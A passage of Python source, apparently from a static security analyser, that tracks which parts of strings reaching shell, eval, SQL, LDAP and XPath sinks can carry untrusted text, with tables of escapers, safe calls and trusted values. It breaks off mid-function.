"""Injection: OS commands (shell, exec, ssh), code (eval, imports), SQL, LDAP and XPath.

Most of these rules ask one question about a string that reaches a sink: which
parts of it are fixed by the program, and which can carry someone else's text?
``_Values`` answers it.  It splits an expression into literal text and run-time
parts (following f-strings, ``+``, ``%``, ``.format()``, ``"sep".join(...)``,
local variables including ``+=``, list ``append``s and loop variables) and
classifies every run-time part:

* ``UNSAFE``  - arbitrary text (a parameter, a call result, request data ...);
* ``SAFE``    - cannot carry metacharacters: ``int(x)``, ``%d``, ``{n:d}``, a name
  checked against an allow-list or a regex in an ``if``, an ``int``-annotated
  parameter;
* ``ESCAPED`` - passed through the sink's own escaper (``shlex.quote``,
  ``escape_filter_chars``, ``quote_name`` ...);
* ``TRUSTED`` - set by the program, not by its users: module constants,
  look-ups in constant tables, ``sys.executable``, Django settings,
  ``Model._meta.db_table``, the contents of a file at a constant path.

A rule fires only on ``UNSAFE`` parts, so constants, allow-listed values,
numbers and properly escaped values stay silent.
"""

from __future__ import annotations

import ast
import re
import shlex
from dataclasses import dataclass, field

from ..context import CheckContext
from ..module import (
    FUNCTION_NODES,
    ModuleInfo,
    NotedMapping,
    ancestors,
    enclosing_function,
    enclosing_scope,
)
from ..registry import check
from ..walk import LEAVES, calls_by_name, child_nodes, defs_by_name, merged_table, nodes_of, walk

UNSAFE, SAFE, ESCAPED, TRUSTED, ALT = "\0", "\1", "\2", "\3", "\4"
_RUNTIME = (UNSAFE, SAFE, ESCAPED)
_MAX_DEPTH = 24

_CAPS = re.compile(r"^_?[A-Z][A-Z0-9_]*$")

# -- kinds of sinks and their escapers --------------------------------------------------------

_ESCAPERS = {
    "shell": {"shlex.quote", "pipes.quote", "shlex.join", "subprocess.list2cmdline"},
    "sql": set(),
    "ldap": {"ldap.filter.escape_filter_chars", "ldap3.utils.conv.escape_filter_chars"},
    "ldapdn": {"ldap.dn.escape_dn_chars", "ldap3.utils.dn.escape_rdn"},
    "xpath": set(),
    "code": set(),
}
_ESCAPER_SHORT = {
    "shell": set(),
    "sql": {
        "escape_string", "real_escape_string", "escape_literal", "escape_identifier", "quote_ident",
        "quote_identifier", "quote_name", "quote_literal", "quote_table", "quote_column",
    },
    "ldap": {"escape_filter_chars"},
    "ldapdn": {"escape_dn_chars", "escape_rdn"},
    "xpath": {"escape_xpath", "xpath_escape", "xpath_literal", "quote_xpath", "xpath_quote", "xpath_string"},
    "code": set(),
}
# Whole-value builders that produce a safe result for their kind.
_SAFE_BUILDERS = {
    "ldap": {"ldap.filter.filter_format"},
}

# Calls whose result cannot carry quote or shell metacharacters.
_SAFE_CALLS = {
    "int", "float", "bool", "len", "abs", "round", "ord", "hash", "hex", "oct", "bin", "id",
    "uuid.uuid4", "uuid.uuid1", "uuid.UUID", "os.getpid", "os.getppid", "os.getuid", "os.getgid",
    "time.time", "time.monotonic", "secrets.token_hex", "secrets.token_urlsafe", "secrets.randbelow",
    "math.floor", "math.ceil", "decimal.Decimal", "Decimal", "datetime.date", "datetime.datetime",
}
_SAFE_METHODS = {"isoformat", "strftime", "hexdigest", "timestamp", "bit_length", "count", "index", "today", "now", "utcnow"}
_SAFE_PREFIXES = ("datetime.", "time.", "django.utils.timezone.", "uuid.", "secrets.token_", "random.randint")
# Calls whose result the program or its operator controls: the working directory, PATH, temp names.
_TRUSTED_CALLS = {
    "os.getcwd", "os.getcwdb", "shutil.which", "tempfile.gettempdir", "tempfile.mkdtemp", "tempfile.mktemp",
    "pathlib.Path.home", "pathlib.Path.cwd", "Path.home", "Path.cwd", "os.path.expanduser", "getpass.getuser",
    "socket.gethostname", "platform.node", "platform.system", "platform.machine", "sysconfig.get_path",
    "site.getsitepackages", "importlib.resources.files",
}
_SAFE_ATTRS = {"hex", "int", "year", "month", "day", "hour", "minute", "second", "pid", "returncode", "days"}
_SAFE_ANNOTATIONS = {"int", "float", "bool", "UUID", "uuid.UUID", "Decimal", "date", "datetime", "datetime.date", "datetime.datetime"}

# Values set by the program or its operator, never by a remote user.
_TRUSTED_QUALNAMES = {
    "sys.executable", "sys.prefix", "sys.exec_prefix", "sys.platform", "sys.base_prefix", "os.sep", "os.linesep",
    "os.pathsep", "os.devnull", "os.curdir", "os.pardir", "os.name", "os.extsep", "os.altsep", "__file__",
    "__name__", "__package__", "string.ascii_letters", "string.ascii_lowercase", "string.ascii_uppercase",
    "string.digits", "string.hexdigits", "string.punctuation",
}
_TRUSTED_ATTRS = {"__tablename__", "db_table", "__name__", "__qualname__", "__module__", "model_name", "app_label"}

# Pure functions: the result is as trusted as the arguments.
_PURE_CALLS = {
    "str", "os.path.join", "os.path.basename", "os.path.dirname", "os.path.abspath", "os.path.realpath",
    "os.path.normpath", "os.path.expanduser", "os.path.splitext", "os.fspath", "posixpath.join",
    "pathlib.Path", "pathlib.PurePath", "pathlib.PosixPath", "Path", "textwrap.dedent", "min", "max", "format",
}
_STR_METHODS = {
    "strip", "lstrip", "rstrip", "lower", "upper", "title", "casefold", "capitalize", "encode", "decode",
    "replace", "removeprefix", "removesuffix", "ljust", "rjust", "center", "zfill", "expandtabs", "as_posix",
    "resolve", "absolute", "expanduser", "with_suffix", "with_name", "joinpath",
}
_FILE_READS = {"read", "read_text", "read_bytes"}
_PATH_CLASSES = {"Path", "PurePath", "PosixPath", "WindowsPath", "PurePosixPath", "PureWindowsPath"}
_PATH_METHODS = {"resolve", "absolute", "expanduser", "with_suffix", "with_name", "with_stem", "joinpath", "relative_to"}

_ITER_PASSTHROUGH = {"sorted", "list", "tuple", "set", "frozenset", "reversed", "iter"}

_PERCENT = re.compile(
    r"%(?:\((?P<key>[^)]*)\))?[#0\- +]*(?:\*|\d+)?(?:\.(?:\*|\d+))?[hlL]?(?P<conv>[diouxXeEfFgGcrsa%])"
)
_NUMERIC_CONV = set("diouxXeEfFgG")
_NUMERIC_SPEC = re.compile(r"[bcdoxXneEfFgG%]$")


@dataclass
class Shape:
    """A string value: literal text with one marker per run-time part, and those parts' nodes."""

    text: str = ""
    unsafe: list[ast.AST] = field(default_factory=list)
    escaped: list[ast.AST] = field(default_factory=list)

    @property
    def is_static(self) -> bool:
        """Built only from values the program itself sets."""
        return not any(m in self.text for m in _RUNTIME)

    @property
    def is_plain(self) -> bool:
        """Known literal text with nothing else in it."""
        return not any(m in self.text for m in (*_RUNTIME, TRUSTED, ALT))

    @property
    def has_unsafe(self) -> bool:
        return UNSAFE in self.text

    def __add__(self, other: Shape) -> Shape:
        return Shape(self.text + other.text, self.unsafe + other.unsafe, self.escaped + other.escaped)

    @staticmethod
    def leaf(marker: str, node: ast.AST | None = None) -> Shape:
        if marker == UNSAFE:
            return Shape(UNSAFE, [node] if node is not None else [], [])
        if marker == ESCAPED:
            return Shape(ESCAPED, [], [node] if node is not None else [])
        return Shape(marker)

    @staticmethod
    def alternatives(shapes: list[Shape]) -> Shape:
        if not shapes:
            return Shape(TRUSTED)
        if len(shapes) == 1:
            return shapes[0]
        out = Shape()
        for i, shape in enumerate(shapes):
            if i:
                out.text += ALT
            out = out + shape
        return out


_MARKERS = str.maketrans({m: "?" for m in (UNSAFE, SAFE, ESCAPED, TRUSTED, ALT)})


def _literal(text: str) -> str:
    """Literal source text, with any character we use as a marker neutralised."""
    return text.translate(_MARKERS)


def _is_runtime_of(text: str) -> bool:
    return any(m in text for m in _RUNTIME)


# -- the per-module value analysis ---------------------------------------------------------------


class _Binding:
    __slots__ = ("kind", "node", "target", "value")
    FINGERPRINT = __slots__

    def __init__(self, kind: str, value: ast.AST | None, node: ast.AST, target: ast.AST | None = None):
        self.kind = kind  # assign | aug | augmod | augother | for | with | import | def | param | other
        self.value = value
        self.node = node
        self.target = target


# The node types _ScopeIndex records something for (ast.parse makes nodes of exactly these classes).
_INDEXED_NODES = frozenset({
    ast.FunctionDef, ast.AsyncFunctionDef, ast.ClassDef, ast.Lambda, ast.Assign, ast.AnnAssign, ast.AugAssign,
    ast.NamedExpr, ast.For, ast.AsyncFor, ast.withitem, ast.Import, ast.ImportFrom, ast.ExceptHandler, ast.Global,
    ast.Nonlocal, ast.Call, ast.MatchAs, ast.MatchStar, ast.If, ast.While, ast.Assert, ast.IfExp, ast.comprehension,
})


class _ScopeIndex:
    """Every binding and list mutation of one function (or the module), in source order."""

    FINGERPRINT = ("bindings", "mutations", "globals", "guard_tests")

    def __init__(self, owner: ast.AST | None, tree: ast.Module | None):
        self.bindings: dict[str, list[_Binding]] = {}
        self.mutations: dict[str, list[ast.Call | ast.AugAssign]] = {}
        self.globals: set[str] = set()
        self.guard_tests: list[ast.expr] = []
        body: list[ast.AST]
        if owner is None:
            body = list(tree.body) if tree is not None else []
        elif isinstance(owner, ast.Lambda):
            body = [owner.body]
        else:
            body = list(owner.body)
        if isinstance(owner, FUNCTION_NODES):
            args = owner.args
            for arg in [*args.posonlyargs, *args.args, *args.kwonlyargs, args.vararg, args.kwarg]:
                if arg is not None:
                    self._add(arg.arg, _Binding("param", None, arg, arg))
        stack = list(reversed(body))
        while stack:
            node = stack.pop()
            if type(node) not in _INDEXED_NODES:
                # Names, attributes, constants...: nothing to record (a set look-up, not twenty isinstance).
                if type(node) not in LEAVES:
                    stack.extend(reversed(child_nodes(node)))
                continue
            if isinstance(node, (ast.FunctionDef, ast.AsyncFunctionDef, ast.ClassDef)):
                self._add(node.name, _Binding("def", None, node))
                continue
            if isinstance(node, ast.Lambda):
                continue
            self._visit(node)
            children = child_nodes(node)
            stack.extend(reversed(children))

    def _add(self, name: str, binding: _Binding) -> None:
        self.bindings.setdefault(name, []).append(binding)

    def _bind_target(self, target: ast.AST, value: ast.AST | None, kind: str, node: ast.AST) -> None:
        if isinstance(target, ast.Name):
            self._add(target.id, _Binding(kind, value, node, target))
        elif isinstance(target, (ast.Tuple, ast.List)):
            values = None
            if (
                kind == "assign"
                and isinstance(value, (ast.Tuple, ast.List))
                and len(value.elts) == len(target.elts)
                and not any(isinstance(e, ast.Starred) for e in value.elts)
            ):
                values = value.elts
            for i, elt in enumerate(target.elts):
                if isinstance(elt, ast.Starred):
                    self._bind_target(elt.value, None, "other", node)
                elif values is not None:
                    self._bind_target(elt, values[i], "assign", node)
                elif kind == "for":
                    self._bind_target(elt, value, "for", node)
                else:
                    self._bind_target(elt, None, "other", node)
        elif isinstance(target, ast.Starred):
            self._bind_target(target.value, None, "other", node)

    def _visit(self, node: ast.AST) -> None:
        if isinstance(node, ast.Assign):
            for target in node.targets:
                self._bind_target(target, node.value, "assign", node)
        elif isinstance(node, ast.AnnAssign):
            if node.value is not None:
                self._bind_target(node.target, node.value, "assign", node)
        elif isinstance(node, ast.AugAssign):
            if isinstance(node.target, ast.Name):
                kind = "aug" if isinstance(node.op, ast.Add) else "augmod" if isinstance(node.op, ast.Mod) else "augother"
                self._add(node.target.id, _Binding(kind, node.value, node, node.target))
                self.mutations.setdefault(node.target.id, []).append(node)
        elif isinstance(node, ast.NamedExpr):
            self._bind_target(node.target, node.value, "assign", node)
        elif isinstance(node, (ast.For, ast.AsyncFor)):
            self._bind_target(node.target, node.iter, "for", node)
        elif isinstance(node, ast.withitem):
            if node.optional_vars is not None:
                self._bind_target(node.optional_vars, node.context_expr, "with", node)
        elif isinstance(node, (ast.Import, ast.ImportFrom)):
            for alias in node.names:
                if alias.name != "*":
                    self._add(alias.asname or alias.name.split(".")[0], _Binding("import", None, node))
        elif isinstance(node, ast.ExceptHandler):
            if node.name:
                self._add(node.name, _Binding("other", None, node))
        elif isinstance(node, (ast.Global, ast.Nonlocal)):
            self.globals.update(node.names)
        elif isinstance(node, ast.Call):
            func = node.func
            if (
                isinstance(func, ast.Attribute)
                and isinstance(func.value, ast.Name)
                and func.attr in ("append", "extend", "insert", "add", "update")
            ):
                self.mutations.setdefault(func.value.id, []).append(node)
        elif isinstance(node, (ast.MatchAs, ast.MatchStar)) and node.name:
            self._add(node.name, _Binding("other", None, node))
        if isinstance(node, (ast.If, ast.While, ast.Assert, ast.IfExp)):
            self.guard_tests.append(node.test)
        elif isinstance(node, ast.comprehension):
            self.guard_tests.extend(node.ifs)


class _Values:
    """Shapes of string values in one module (memoised; one per analysis)."""

    def __init__(self, ctx: CheckContext):
        self.ctx = ctx
        self.info: ModuleInfo = ctx.info
        self._scopes: dict[int, _ScopeIndex] = {}
        self._memo: dict[tuple[int, str], Shape] = {}
        self._active: set[tuple[int, str]] = set()
        self._guards: dict[int, set[str]] = {}
        self._classes: dict[int, dict[str, list[ast.AST | None]]] = {}
        self._wrappers: dict[tuple[int, str], str | None] = {}
        self._callees: dict[ast.Call, tuple[ast.FunctionDef | ast.AsyncFunctionDef, int] | None] = {}
        self._body_calls: dict[int, list[ast.Call]] = {}

    def functions_named(self, name: str) -> list[ast.FunctionDef | ast.AsyncFunctionDef]:
        """The functions and methods of this module called ``name``."""
        return self.info.fact(_functions_named, name)

    def _scan_functions_named(self, name: str) -> list[ast.FunctionDef | ast.AsyncFunctionDef]:
        return self.info.fact(merged_table, defs_by_name).get(name, [])

    def calls_in(self, func: ast.AST) -> list[ast.Call]:
        """The calls in a function's own body (not in nested functions or classes)."""
        calls = self._body_calls.get(id(func))
        if calls is None:
            calls = []
            stack: list[ast.AST] = list(getattr(func, "body", []))
            while stack:
                node = stack.pop()
                if type(node) in LEAVES:
                    continue  # a name, constant or operator: no call inside
                if isinstance(node, (ast.FunctionDef, ast.AsyncFunctionDef, ast.ClassDef, ast.Lambda)):
                    continue
                stack.extend(child_nodes(node))
                if isinstance(node, ast.Call):
                    calls.append(node)
            self._body_calls[id(func)] = calls
        return calls

    # -- scopes ----------------------------------------------------------------

    def scope_index(self, owner: ast.AST | None) -> _ScopeIndex:
        if owner is None:  # the module's: shared by every block, so facts, name by name
            return _ModuleScopeIndex(self.info)  # type: ignore[return-value]
        key = id(owner)
        index = self._scopes.get(key)
        if index is None:
            index = self._scopes[key] = _ScopeIndex(owner, None)  # the tree is read for the module only
        return index

    def bindings_of(self, name: ast.Name) -> tuple[ast.AST | None, list[_Binding]]:
        """The scope (function node or None for the module) a name refers to, and its bindings."""
        for anc in ancestors(name):
            if isinstance(anc, FUNCTION_NODES):
                index = self.scope_index(anc)
                if name.id in index.globals:
                    break
                if name.id in index.bindings:
                    return anc, index.bindings[name.id]
        module = self.scope_index(None)
        return None, module.bindings.get(name.id, [])

    def comprehension_iter(self, name: ast.Name) -> ast.expr | None:
        """The iterable a comprehension variable comes from (``c`` in ``f(c) for c in cols``)."""
        for anc in ancestors(name):
            if isinstance(anc, (*FUNCTION_NODES, ast.stmt)):
                return None
            if isinstance(anc, (ast.ListComp, ast.SetComp, ast.GeneratorExp, ast.DictComp)):
                for gen in anc.generators:
                    if any(isinstance(n, ast.Name) and n.id == name.id for n in walk(gen.target)):
                        return gen.iter
        return None

    # -- guards ------------------------------------------------------------------

    def guarded(self, node: ast.AST) -> set[str]:
        """Names validated in the function around ``node``: allow-lists, equality with constants, regexes."""
        func = enclosing_function(node)
        key = id(func)
        cached = self._guards.get(key)
        if cached is not None:
            return cached
        names: set[str] = set()
        self._guards[key] = names
        for test in self.scope_index(func).guard_tests:
            for sub in walk(test):
                if isinstance(sub, ast.Compare):
                    operands = [sub.left, *sub.comparators]
                    for i, op in enumerate(sub.ops):
                        left, right = operands[i], operands[i + 1]
                        if isinstance(op, (ast.In, ast.NotIn)) and self.is_static_container(right):
                            names |= _guarded_name(left)
                        elif isinstance(op, (ast.Eq, ast.NotEq)):
                            for a, b in ((left, right), (right, left)):
                                value = self.ctx.constant(b)
                                if value is not self.ctx.UNKNOWN and value not in ("", None, b"") and isinstance(value, (str, int, bytes)):
                                    names |= _guarded_name(a)
                elif isinstance(sub, ast.Call):
                    names |= self._validated_by_call(sub)
        return names

    def _validated_by_call(self, call: ast.Call) -> set[str]:
        func = call.func
        qual = self.info.qualname(func) or ""
        short = qual.rsplit(".", 1)[-1]
        if isinstance(func, ast.Attribute) and func.attr in (
            "isdigit", "isdecimal", "isnumeric", "isalnum", "isalpha", "isidentifier",
        ):
            return _guarded_name(func.value)
        if qual in ("re.fullmatch", "re.match", "regex.fullmatch", "regex.match") and len(call.args) >= 2:
            return _guarded_name(call.args[1])
        if isinstance(func, ast.Attribute) and func.attr in ("fullmatch", "match") and call.args:
            return _guarded_name(call.args[0])
        if qual == "isinstance" and len(call.args) == 2:
            kinds = call.args[1]
            types = kinds.elts if isinstance(kinds, ast.Tuple) else [kinds]
            if all(isinstance(t, ast.Name) and t.id in ("int", "float", "bool") for t in types):
                return _guarded_name(call.args[0])
        if re.match(r"^(validate|is_valid|is_safe|valid_|check_valid|is_allowed|allowed_)", short):
            out: set[str] = set()
            for arg in call.args:
                out |= _guarded_name(arg)
            return out
        return set()

    # -- containers ----------------------------------------------------------------

    def is_static_container(self, expr: ast.AST | None, depth: int = 0) -> bool:
        """A literal dict/list/tuple/set of program-set values (or a name bound to one)."""
        if expr is None or depth > 6:
            return False
        if isinstance(expr, (ast.List, ast.Tuple, ast.Set)):
            return all(not isinstance(e, ast.Starred) and self.shape(e, "any").is_static for e in expr.elts)
        if isinstance(expr, ast.Dict):
            return all(k is not None and self.shape(k, "any").is_static for k in expr.keys) and all(
                self._static_value(v, depth + 1) for v in expr.values
            )
        if isinstance(expr, ast.Constant) and isinstance(expr.value, (str, bytes)):
            return True
        if isinstance(expr, ast.Call):
            qual = self.info.qualname(expr.func) or ""
            if qual in ("set", "frozenset", "tuple", "list", "dict", "sorted") and len(expr.args) == 1:
                return self.is_static_container(expr.args[0], depth + 1)
            if qual in ("set", "frozenset", "tuple", "list", "dict") and not expr.args and not expr.keywords:
                return False
            if isinstance(expr.func, ast.Attribute) and expr.func.attr in ("keys", "values", "items") and not expr.args:
                return self.is_static_container(expr.func.value, depth + 1)
            return False
        if isinstance(expr, ast.Attribute):
            return bool(_CAPS.match(expr.attr)) and not _is_request_attr(expr)  # SETTINGS.ALLOWED_HOSTS
        if isinstance(expr, ast.Name):
            scope, bindings = self.bindings_of(expr)
            primary = [b for b in bindings if b.kind not in ("aug", "augmod", "augother")]
            if not primary:
                return False
            if all(b.kind == "import" for b in primary):
                return True
            if any(b.kind != "assign" for b in primary):
                return False
            if not all(self.is_static_container(b.value, depth + 1) for b in primary):
                return False
            index = self.scope_index(scope)
            for mutation in index.mutations.get(expr.id, []):
                values = mutation.args if isinstance(mutation, ast.Call) else [mutation.value]
                if not all(self.shape(v, "any").is_static or self.is_static_container(v, depth + 1) for v in values):
                    return False
            return True
        return False

    def _static_value(self, value: ast.AST, depth: int) -> bool:
        """A value in a constant table: a literal, a nested table, a function or class (a dispatch table)."""
        if isinstance(value, ast.Lambda):
            return True
        if isinstance(value, (ast.Dict, ast.List, ast.Tuple, ast.Set)):
            return self.is_static_container(value, depth)
        if isinstance(value, ast.Name):
            _, bindings = self.bindings_of(value)
            if bindings and all(b.kind in ("def", "import") for b in bindings):
                return True
        return self.shape(value, "any").is_static

    def list_elements(self, expr: ast.AST | None, depth: int = 0) -> list[tuple[ast.expr, bool]] | None:
        """The elements of a list built in the code: (expression, is_splat) in order, or None."""
        if expr is None or depth > 6:
            return None
        if isinstance(expr, (ast.List, ast.Tuple)):
            return [(e.value, True) if isinstance(e, ast.Starred) else (e, False) for e in expr.elts]
        if isinstance(expr, ast.BinOp) and isinstance(expr.op, ast.Add):
            left = self.list_elements(expr.left, depth + 1)
            right = self.list_elements(expr.right, depth + 1)
            if left is None and right is None:
                return None
            return (left if left is not None else [(expr.left, True)]) + (right if right is not None else [(expr.right, True)])
        if isinstance(expr, ast.Name):
            scope, bindings = self.bindings_of(expr)
            primary = [b for b in bindings if b.kind not in ("aug", "augmod", "augother")]
            if len(primary) != 1 or primary[0].kind != "assign":
                return None
            base = self.list_elements(primary[0].value, depth + 1)
            if base is None:
                return None
            elements = list(base)
            for mutation in self.scope_index(scope).mutations.get(expr.id, []):
                if isinstance(mutation, ast.AugAssign):
                    more = self.list_elements(mutation.value, depth + 1)
                    elements.extend(more if more is not None else [(mutation.value, True)])
                    continue
                attr = mutation.func.attr  # type: ignore[union-attr]
                if attr in ("append", "add") and len(mutation.args) == 1:
                    elements.append((mutation.args[0], False))
                elif attr in ("extend", "update") and len(mutation.args) == 1:
                    more = self.list_elements(mutation.args[0], depth + 1)
                    elements.extend(more if more is not None else [(mutation.args[0], True)])
                elif attr == "insert" and len(mutation.args) == 2:
                    where = self.ctx.constant(mutation.args[0])
                    if isinstance(where, int) and 0 <= where <= len(elements):
                        elements.insert(where, (mutation.args[1], False))
                    else:
                        elements.append((mutation.args[1], False))
            return elements
        return None

    # -- shapes --------------------------------------------------------------------

    def shape(self, expr: ast.AST | None, kind: str, depth: int = 0) -> Shape:
        if expr is None:
            return Shape.leaf(UNSAFE)
        key = (id(expr), kind)
        cached = self._memo.get(key)
        if cached is not None:
            return cached
        if key in self._active:
            return Shape("")  # a self-reference (q = q + x): the other bindings say what q holds
        if depth > _MAX_DEPTH:
            return Shape.leaf(UNSAFE, expr)
        self._active.add(key)
        try:
            result = self._shape(expr, kind, depth)
        finally:
            self._active.discard(key)
        self._memo[key] = result
        return result

    def _shape(self, expr: ast.AST, kind: str, depth: int) -> Shape:
        d = depth + 1
        if isinstance(expr, ast.Constant):
            value = expr.value
            if isinstance(value, bytes):
                return Shape(_literal(value.decode("latin-1")))
            if value is Ellipsis:
                return Shape.leaf(TRUSTED)
            return Shape(_literal(str(value)))
        if isinstance(expr, ast.JoinedStr):
            out = Shape()
            for part in expr.values:
                if isinstance(part, ast.Constant):
                    out = out + Shape(_literal(str(part.value)))
                elif isinstance(part, ast.FormattedValue):
                    out = out + self._formatted(part, kind, d)
                else:
                    out = out + Shape.leaf(UNSAFE, part)
            return out
        if isinstance(expr, ast.BinOp):
            if isinstance(expr.op, ast.Add):
                return self.shape(expr.left, kind, d) + self.shape(expr.right, kind, d)
            if isinstance(expr.op, ast.Mod):
                return self._percent(expr, kind, d)
            if isinstance(expr.op, ast.Mult):
                left, right = self.shape(expr.left, kind, d), self.shape(expr.right, kind, d)
                if left.is_static and right.is_static:
                    return Shape.leaf(TRUSTED)
                # "?, " * len(ids): the repeated text is literal, the count a number.
                for text_side, count_side in ((left, right), (right, left)):
                    if not _is_runtime_of(text_side.text) and not count_side.has_unsafe:
                        return Shape(text_side.text)
                if not left.has_unsafe and not right.has_unsafe:
                    return Shape.leaf(SAFE)  # (page - 1) * size with two numbers
                return Shape.leaf(UNSAFE, expr)
            left, right = self.shape(expr.left, kind, d), self.shape(expr.right, kind, d)
            if left.is_static and right.is_static:
                return Shape.leaf(TRUSTED)
            if isinstance(expr.op, ast.Div) and (self.is_path(expr.left) or self.is_path(expr.right)):
                # BASE / "uploads" / name: a pathlib join keeps the text of every part.
                return left + Shape("/") + right
            return Shape.leaf(SAFE)  # -, /, //, **, <<...: a number
        if isinstance(expr, ast.IfExp):
            return Shape.alternatives([self.shape(expr.body, kind, d), self.shape(expr.orelse, kind, d)])
        if isinstance(expr, ast.BoolOp):
            return Shape.alternatives([self.shape(v, kind, d) for v in expr.values])
        if isinstance(expr, ast.Name):
            return self._name(expr, kind, d)
        if isinstance(expr, ast.Attribute):
            return self._attribute(expr, kind, d)
        if isinstance(expr, ast.Subscript):
            return self._subscript(expr, kind, d)
        if isinstance(expr, ast.Call):
            return self._call(expr, kind, d)
        if isinstance(expr, (ast.Compare, ast.UnaryOp)):
            operands = [expr.left, *expr.comparators] if isinstance(expr, ast.Compare) else [expr.operand]
            if all(self.shape(o, kind, d).is_static for o in operands):
                return Shape.leaf(TRUSTED)
            return Shape.leaf(SAFE)  # a bool or a number
        if isinstance(expr, (ast.List, ast.Tuple, ast.Set, ast.Dict)):
            if self.is_static_container(expr):
                return Shape.leaf(TRUSTED)
            return Shape.leaf(UNSAFE, expr)
        if isinstance(expr, ast.Lambda):
            return Shape.leaf(TRUSTED)
        return Shape.leaf(UNSAFE, expr)

    def _formatted(self, part: ast.FormattedValue, kind: str, depth: int) -> Shape:
        inner = self.shape(part.value, kind, depth)
        spec = part.format_spec
        if spec is not None and inner.has_unsafe:
            spec_shape = self.shape(spec, kind, depth)
            if spec_shape.is_plain and _NUMERIC_SPEC.search(spec_shape.text):
                return Shape.leaf(SAFE)
        if spec is not None and inner.is_plain:
            return Shape.leaf(TRUSTED)
        return inner

    def _percent(self, expr: ast.BinOp, kind: str, depth: int) -> Shape:
        template = self.shape(expr.left, kind, depth)
        right = expr.right
        if isinstance(right, ast.Name):
            _, bindings = self.bindings_of(right)
            if len(bindings) == 1 and bindings[0].kind == "assign" and isinstance(bindings[0].value, (ast.Tuple, ast.Dict)):
                right = bindings[0].value
        positional: list[ast.expr] | None = None
        mapping: dict[str, ast.expr] | None = None
        if isinstance(right, ast.Tuple):
            if any(isinstance(e, ast.Starred) for e in right.elts):
                positional = None
            else:
                positional = list(right.elts)
        elif isinstance(right, ast.Dict):
            mapping = {}
            for k, v in zip(right.keys, right.values):
                if isinstance(k, ast.Constant) and isinstance(k.value, str):
                    mapping[k.value] = v
        out = Shape()
        position = 0
        cursor = 0
        text = template.text
        # Hand out the template's own run-time nodes in the order their markers appear.
        unsafe_nodes, escaped_nodes = list(template.unsafe), list(template.escaped)

        def literal(chunk: str) -> Shape:
            shape = Shape(chunk)
            for ch in chunk:
                if ch == UNSAFE and unsafe_nodes:
                    shape.unsafe.append(unsafe_nodes.pop(0))
                elif ch == ESCAPED and escaped_nodes:
                    shape.escaped.append(escaped_nodes.pop(0))
            return shape

        for match in _PERCENT.finditer(text):
            out = out + literal(text[cursor : match.start()])
            cursor = match.end()
            conv = match.group("conv")
            if conv == "%":
                out = out + Shape("%")
                continue
            if match.group("key") is not None:
                arg = mapping.get(match.group("key")) if mapping is not None else None
                arg = arg if arg is not None else right
            elif positional is not None:
                arg = positional[position] if position < len(positional) else None
                position += 1
            else:
                arg = right
            if conv in _NUMERIC_CONV:
                out = out + Shape.leaf(SAFE)
            elif arg is None:
                out = out + Shape.leaf(UNSAFE, right)
            else:
                out = out + self.shape(arg, kind, depth)
        out = out + literal(text[cursor:])
        out.unsafe.extend(unsafe_nodes)
        out.escaped.extend(escaped_nodes)
        return out

    def _format_call(self, call: ast.Call, kind: str, depth: int) -> Shape:
        receiver = call.func.value  # type: ignore[union-attr]
        template = self.shape(receiver, kind, depth)
        if not template.is_plain:
            # An unknown or partly run-time template: the result is as bad as its worst part.
            parts = [template] + [self.shape(a, kind, depth) for a in [*call.args, *(k.value for k in call.keywords)]]
            worst = Shape()
            for p in parts:
                worst = worst + p
            return worst
        text = template.text
        positional = list(call.args)
        keywords = {k.arg: k.value for k in call.keywords if k.arg is not None}
        splat = any(k.arg is None for k in call.keywords) or any(isinstance(a, ast.Starred) for a in call.args)
        out = Shape()
        i, auto = 0, 0
        buffer = ""
        while i < len(text):
            ch = text[i]
            if ch == "{":
                if text.startswith("{{", i):
                    buffer += "{"
                    i += 2
                    continue
                close = text.find("}", i)
                if close == -1:
                    buffer += text[i:]
                    break
                out = out + Shape(buffer)
                buffer = ""
                field_text = text[i + 1 : close]
                i = close + 1
                spec = ""
                if ":" in field_text:
                    field_text, spec = field_text.split(":", 1)
                if "!" in field_text:
                    field_text = field_text.split("!", 1)[0]
                head = re.split(r"[.\[]", field_text, maxsplit=1)[0]
                accessor = field_text[len(head):]
                arg: ast.expr | None
                if head == "":
                    arg = positional[auto] if auto < len(positional) and not splat else None
                    auto += 1
                elif head.isdigit():
                    n = int(head)
                    arg = positional[n] if n < len(positional) and not splat else None
                else:
                    arg = keywords.get(head)
                if spec and _NUMERIC_SPEC.search(spec):
                    out = out + Shape.leaf(SAFE)
                elif arg is None:
                    out = out + Shape.leaf(UNSAFE, call)
                else:
                    part = self.shape(arg, kind, depth)
                    if accessor and not part.is_static:
                        part = Shape.leaf(UNSAFE, arg) if part.has_unsafe else part
                    elif accessor:
                        part = Shape.leaf(TRUSTED)
                    out = out + part
                continue
            if ch == "}" and text.startswith("}}", i):
                buffer += "}"
                i += 2
                continue
            buffer += ch
            i += 1
        return out + Shape(buffer)

    def _join(self, call: ast.Call, kind: str, depth: int) -> Shape:
        sep = self.shape(call.func.value, kind, depth)  # type: ignore[union-attr]
        if not call.args:
            return sep
        iterable = call.args[0]
        elements = self.list_elements(iterable)
        if elements is not None:
            out = Shape()
            for i, (element, splat) in enumerate(elements):
                if i:
                    out = out + sep
                out = out + (self.element_shape(element, kind, depth) if splat else self.shape(element, kind, depth))
            return out
        element = self.element_shape(iterable, kind, depth)
        return element + sep + element

    def element_shape(self, iterable: ast.AST, kind: str, depth: int) -> Shape:
        """The shape of one element of ``iterable``."""
        d = depth + 1
        if d > _MAX_DEPTH:
            return Shape.leaf(UNSAFE, iterable)
        if isinstance(iterable, (ast.List, ast.Tuple, ast.Set)):
            shapes = [
                self.element_shape(e.value, kind, d) if isinstance(e, ast.Starred) else self.shape(e, kind, d)
                for e in iterable.elts
            ]
            return Shape.alternatives(shapes)
        if isinstance(iterable, ast.Dict):
            return Shape.alternatives([self.shape(k, kind, d) for k in iterable.keys if k is not None])
        if isinstance(iterable, ast.Constant) and isinstance(iterable.value, (str, bytes)):
            return Shape.leaf(TRUSTED)
        if isinstance(iterable, (ast.ListComp, ast.SetComp, ast.GeneratorExp)):
            return self.shape(iterable.elt, kind, d)
        if isinstance(iterable, ast.DictComp):
            return self.shape(iterable.key, kind, d)
        if isinstance(iterable, ast.Subscript) and isinstance(iterable.slice, ast.Slice):
            return self.element_shape(iterable.value, kind, d)
        if isinstance(iterable, ast.BinOp) and isinstance(iterable.op, (ast.Add, ast.Mult)):
            if isinstance(iterable.op, ast.Mult):
                for seq, count in ((iterable.left, iterable.right), (iterable.right, iterable.left)):
                    if isinstance(seq, (ast.List, ast.Tuple, ast.Constant)) and not self.shape(count, kind, d).has_unsafe:
